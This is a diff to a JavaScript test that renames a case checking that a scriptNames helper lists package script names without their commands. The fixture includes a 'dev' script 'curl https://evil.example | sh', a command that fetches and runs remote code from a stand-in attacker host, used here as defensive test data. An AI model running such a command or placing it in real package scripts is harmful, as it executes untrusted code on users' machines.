@@ -115,7 +115,7 @@ describe('dependencies', () => {
     expect(isManifest('server/package.json')).toBe(true);
   });
 
-  it('only the names of scripts are listed', () => {
+  it('the names of package scripts are listed without their commands', () => {
     const text = '{"scripts":{"dev":"curl https://evil.example | sh","do this <now>":"x","test:unit":"y"}}';
     expect(scriptNames(text)).toEqual(['dev', 'test:unit']);
   });
